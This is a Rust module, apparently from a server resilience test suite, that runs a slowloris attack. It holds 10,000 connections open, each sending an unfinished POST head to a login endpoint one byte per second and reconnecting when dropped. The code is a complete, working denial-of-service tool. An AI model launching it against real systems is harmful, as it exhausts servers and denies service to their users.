//! Ten thousand connections that never finish their request's head (slowloris).

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

const CONNECTIONS: usize = 10_000;

/// The connections, one task each.
pub(super) struct Flood(JoinSet<()>);

impl Flood {
    /// Fails where this process may not open so many files.
    pub(super) fn ready() -> Result<Self> {
        let limits = std::fs::read_to_string("/proc/self/limits")?;
        let files: usize = limits
            .lines()
            .find(|line| line.starts_with("Max open files"))
            .and_then(|line| line.split_whitespace().nth(3)?.parse().ok())
            .unwrap_or_default();
        if files < CONNECTIONS + 1_000 {
            bail!("{files} open files are allowed here; `ulimit -n 20000` would do");
        }
        Ok(Self(JoinSet::new()))
    }

    pub(super) async fn begin(&mut self, url: &str) -> Result<()> {
        let address: SocketAddr = url
            .strip_prefix("http://")
            .context("not an http:// address")?
            .parse()?;
        for index in 0..CONNECTIONS {
            self.0.spawn(async move {
                // The server may refuse or end it: the next one takes its place.
                loop {
                    let _ = dribble(address).await;
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            });
            if index % 500 == 0 {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
        Ok(())
    }

    pub(super) fn end(&mut self) {
        self.0.abort_all();
    }
}

async fn dribble(address: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream
        .write_all(b"POST /api/auth/login/ HTTP/1.1\r\nx: ")
        .await?;
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        stream.write_all(b"x").await?;
    }
}
